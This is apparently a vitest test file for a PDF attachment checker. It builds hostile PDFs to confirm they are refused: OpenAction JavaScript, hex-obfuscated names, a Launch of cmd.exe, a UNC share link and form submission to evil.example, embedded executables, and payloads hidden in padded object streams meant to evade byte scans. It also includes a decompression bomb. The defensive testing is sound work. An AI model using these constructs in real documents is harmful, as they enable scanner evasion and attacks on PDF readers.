/**
 * The PDF corpus of issue #7 part 5, built here (no downloads): every construct that can carry
 * active content, each as a plain object and hidden in a compressed object stream whose dictionary
 * is padded past 16 KiB (the shape that got past the old byte scan), must be refused; clean PDFs in
 * the shapes several producers write must pass, and what is stored must be what was checked.
 */
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts, rgb } from 'pdf-lib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { checkAttachment } from './attachments.ts';
import { inspectPdf, PDF_INFLATE_BUDGET } from './pdf.ts';

const latin1 = (s: string): Buffer => Buffer.from(s, 'latin1');
const cat = (...parts: (Uint8Array | string)[]): Uint8Array =>
  new Uint8Array(Buffer.concat(parts.map((p) => (typeof p === 'string' ? latin1(p) : p))));
const stream = (dict: string, data: Uint8Array | string): Uint8Array => {
  const bytes = typeof data === 'string' ? latin1(data) : data;
  return cat(`<< ${dict} /Length ${bytes.length} >>\nstream\n`, bytes, '\nendstream');
};

/** A hand-written PDF: objects numbered from 1, a correct xref table. */
function handPdf(objects: (string | Uint8Array)[], version = '1.7', trailer = ''): Uint8Array {
  const parts: Uint8Array[] = [latin1(`%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`)];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    const part = cat(`${i + 1} 0 obj\n`, body, '\nendobj\n');
    offsets.push(offset);
    parts.push(part);
    offset += part.length;
  });
  const xref =
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
    offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('') +
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${offset}\n%%EOF\n`;
  return cat(...parts, xref);
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (extra = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R ${extra}>>`;
const CONTENT = stream('', 'BT /F1 12 Tf 20 100 Td (Duong hong o phuong Loc Tho) Tj ET');

/** Where a hostile construct sits: catalog and page extras, plus extra objects from number 5 on. */
interface Construct {
  catalog?: string;
  page?: string;
  objects?: string[];
}

/** Plain: every object in the file body. */
function plain(c: Construct): Uint8Array {
  return handPdf([
    `<< /Type /Catalog /Pages 2 0 R ${c.catalog ?? ''}>>`,
    PAGES,
    page(c.page),
    CONTENT,
    ...(c.objects ?? []),
  ]);
}

/**
 * Hidden: the catalog, the page and the extra objects live in one compressed object stream whose
 * dictionary is padded past 16 KiB, with an xref stream pointing into it, as a modern writer (and
 * the attacker of issue #7) would lay it out.
 */
function hidden(c: Construct): Uint8Array {
  const inner = [
    [1, `<< /Type /Catalog /Pages 2 0 R ${c.catalog ?? ''}>>`],
    [3, page(c.page)],
    ...(c.objects ?? []).map((o, i) => [5 + i, o] as const),
  ] as const;
  let header = '';
  let body = '';
  for (const [n, o] of inner) {
    header += `${n} ${body.length} `;
    body += `${o}\n`;
  }
  const data = deflateSync(latin1(header + body));
  const objStmNumber = 5 + (c.objects?.length ?? 0);
  const pad = `/Padding (${'x'.repeat(17 * 1024)})`;
  const parts: Uint8Array[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  const at = new Map<number, number>();
  let offset = parts[0]!.length;
  const add = (n: number, body: Uint8Array | string) => {
    const part = cat(`${n} 0 obj\n`, body, '\nendobj\n');
    at.set(n, offset);
    parts.push(part);
    offset += part.length;
  };
  add(2, PAGES);
  add(4, CONTENT);
  add(
    objStmNumber,
    stream(`/Type /ObjStm /N ${inner.length} /First ${header.length} ${pad} /Filter /FlateDecode`, data),
  );
  // The xref stream: type 1 (offset) or type 2 (in the object stream) for each object.
  const size = objStmNumber + 2;
  const rows = Buffer.alloc(size * 7);
  for (let n = 0; n < size; n++) {
    const r = n * 7;
    const inStream = inner.findIndex(([m]) => m === n);
    if (n === 0) rows.writeUInt8(0, r);
    else if (inStream >= 0) {
      rows.writeUInt8(2, r);
      rows.writeUInt32BE(objStmNumber, r + 1);
      rows.writeUInt16BE(inStream, r + 5);
    } else if (at.has(n)) {
      rows.writeUInt8(1, r);
      rows.writeUInt32BE(at.get(n)!, r + 1);
    }
  }
  const xrefNumber = size - 1;
  rows.writeUInt8(1, xrefNumber * 7);
  rows.writeUInt32BE(offset, xrefNumber * 7 + 1);
  const xrefAt = offset;
  add(xrefNumber, stream(`/Type /XRef /Size ${size} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode`, deflateSync(rows)));
  return cat(...parts, `startxref\n${xrefAt}\n%%EOF\n`);
}

// ── Hostile corpus ──────────────────────────────────────────────────────────────────────────────

const HOSTILE: [string, Construct][] = [
  ['OpenAction JavaScript', { catalog: '/OpenAction 5 0 R', objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }],
  ['OpenAction JavaScript, direct', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }],
  ['OpenAction URI (runs by itself)', { catalog: '/OpenAction << /S /URI /URI (https://evil.example/) >>' }],
  [
    'document-level JavaScript name tree',
    { catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', objects: ['<< /S /JavaScript /JS (1) >>'] },
  ],
  ['JavaScript spelt /J#61vaScript', { catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' }],
  [
    'JavaScript spelt /#4aavaScript (lower-case hex)',
    { catalog: '/OpenAction << /S /#4aavaScript /#4aS (app.alert(1)) >>' },
  ],
  ['page additional action /AA', { page: '/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>' }],
  [
    'Launch in a link',
    {
      page: '/Annots [5 0 R]',
      objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>'],
    },
  ],
  [
    'GoToR to a UNC path',
    {
      page: '/Annots [5 0 R]',
      objects: [
        '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >> >>',
      ],
    },
  ],
  [
    'GoToE',
    {
      page: '/Annots [5 0 R]',
      objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToE /T << /R /C /N (x) >> >> >>'],
    },
  ],
  [
    'URI file://',
    {
      page: '/Annots [5 0 R]',
      objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file://attacker/share/x) >> >>'],
    },
  ],
  [
    'URI javascript:',
    {
      page: '/Annots [5 0 R]',
      objects: [
        '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI <6a6176617363726970743a616c657274283129> >> >>',
      ],
    },
  ],
  ['URI base file:', { catalog: '/URI << /Base (file:///C:/) >>' }],
  [
    'SubmitForm',
    {
      page: '/Annots [5 0 R]',
      objects: [
        '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>',
      ],
    },
  ],
  [
    'ImportData',
    {
      page: '/Annots [5 0 R]',
      objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /ImportData /F (x.fdf) >> >>'],
    },
  ],
  [
    'an action chained by /Next',
    {
      page: '/Annots [5 0 R]',
      objects: [
        '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >> >>',
        '<< /S /ResetForm >>',
      ],
    },
  ],
  [
    'EmbeddedFiles',
    {
      catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
      objects: ['<< /Type /Filespec /F (a.exe) >>'],
    },
  ],
  [
    'RichMedia annotation',
    { page: '/Annots [5 0 R]', objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>'] },
  ],
  ['XFA form', { catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', objects: ['(<xdp:xdp/>)'] }],
];

// ── Clean corpus: shapes of several producers ───────────────────────────────────────────────────

async function pdfLibDocument(useObjectStreams: boolean): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.setTitle('Biên bản hiện trường');
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#3a7' } })
    .png()
    .toBuffer();
  const image = await doc.embedPng(png);
  const p = doc.addPage([595, 842]);
  p.drawText('Duong hong o phuong Loc Tho', { x: 50, y: 780, size: 14, font, color: rgb(0, 0, 0) });
  p.drawImage(image, { x: 50, y: 600, width: 128, height: 96 });
  // A web link, as a word processor writes one.
  const link = doc.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [50, 760, 200, 775],
    A: { S: 'URI', URI: PDFString.of('https://khanhhoa.gov.vn/') },
  });
  p.node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
  doc.addPage();
  return doc.save({ useObjectStreams });
}

/** Revision 2 appended to a plain file: a changed page and a second xref section. */
function incremental(): Uint8Array {
  const base = plain({});
  const prevXref = Buffer.from(base).toString('latin1').lastIndexOf('xref');
  const obj = `3 0 obj\n${page('/Rotate 90 ')}\nendobj\n`;
  const objAt = base.length;
  const xrefAt = objAt + obj.length;
  return cat(
    base,
    obj,
    `xref\n3 1\n${String(objAt).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev ${prevXref} >>\nstartxref\n${xrefAt}\n%%EOF\n`,
  );
}

describe('PDF corpus (issue #7 part 5)', () => {
  for (const [name, construct] of HOSTILE) {
    it(`refuses ${name}, as plain objects`, async () => {
      expect(await inspectPdf(plain(construct))).toEqual({ ok: false, code: 'attachment_polyglot' });
    });
    it(`refuses ${name}, in a compressed object stream padded past 16 KiB`, async () => {
      const bytes = hidden(construct);
      const keyword = /JavaScript|Launch|GoTo[RE]|file:|SubmitForm|ImportData|EmbeddedFiles|RichMedia|XFA|AA|#4a/;
      expect(keyword.test(Buffer.from(bytes).toString('latin1'))).toBe(false);
      expect(await inspectPdf(bytes)).toEqual({ ok: false, code: 'attachment_polyglot' });
    });
  }

  const clean: [string, () => Promise<Uint8Array> | Uint8Array][] = [
    [
      'hand-written minimal PDF 1.4',
      () => handPdf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page(), CONTENT], '1.4'),
    ],
    ['pdf-lib with fonts, an image and a web link (classic xref)', () => pdfLibDocument(false)],
    ['pdf-lib with object streams and an xref stream', () => pdfLibDocument(true)],
    ['a padded object stream holding only clean objects', () => hidden({ catalog: '/PageMode /UseOutlines' })],
    ['an incremental update', incremental],
    [
      'a GoTo open action and a mailto link',
      () =>
        plain({
          catalog: '/OpenAction [3 0 R /Fit]',
          page: '/Annots [5 0 R]',
          objects: [
            '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (mailto:tiepdan@khanhhoa.gov.vn) >> >>',
          ],
        }),
    ],
  ];
  for (const [name, make] of clean) {
    it(`accepts ${name} and stores the library's rewrite of it`, async () => {
      const bytes = await make();
      const r = await inspectPdf(bytes);
      expect(r.ok, name).toBe(true);
      if (!r.ok) return;
      // What is stored parses, keeps its pages, and passes the same check again.
      const doc = await PDFDocument.load(r.bytes);
      expect(doc.getPageCount()).toBe((await PDFDocument.load(bytes)).getPageCount());
      expect((await inspectPdf(r.bytes)).ok).toBe(true);
    });
  }

  it('drops what lies outside parsed objects: an earlier revision and bytes after %%EOF', async () => {
    const r = await inspectPdf(incremental());
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    const doc = await PDFDocument.load(r.bytes);
    expect(doc.getPage(0).getRotation().angle).toBe(90);
    expect(Buffer.from(r.bytes).toString('latin1').match(/%%EOF/g)).toHaveLength(1);
  });

  it('refuses encrypted PDFs and object streams past the inflate budget', async () => {
    const encrypted = handPdf(
      ['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page(), CONTENT],
      '1.7',
      '/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >> /ID [<01> <01>] ',
    );
    expect(await inspectPdf(encrypted)).toEqual({ ok: false, code: 'attachment_unreadable' });
    const bomb = deflateSync(Buffer.alloc(PDF_INFLATE_BUDGET + 1024, 0x20), { level: 9 });
    const bytes = handPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      PAGES,
      page(),
      CONTENT,
      stream('/Type /ObjStm /N 1 /First 4 /Padding (' + 'x'.repeat(17 * 1024) + ') /Filter /FlateDecode', bomb),
    ]);
    expect(await inspectPdf(bytes)).toEqual({ ok: false, code: 'attachment_unreadable' });
  });

  it('goes through the worker in checkAttachment: the padded hidden JavaScript of issue #7 is refused', async () => {
    const evil = hidden({ catalog: '/OpenAction 5 0 R', objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] });
    expect(await checkAttachment({ name: 'a.pdf', bytes: evil })).toEqual({ ok: false, code: 'attachment_polyglot' });
    const ok = await checkAttachment({ name: 'a.pdf', bytes: await pdfLibDocument(true) });
    expect(ok.ok).toBe(true);
  });
});
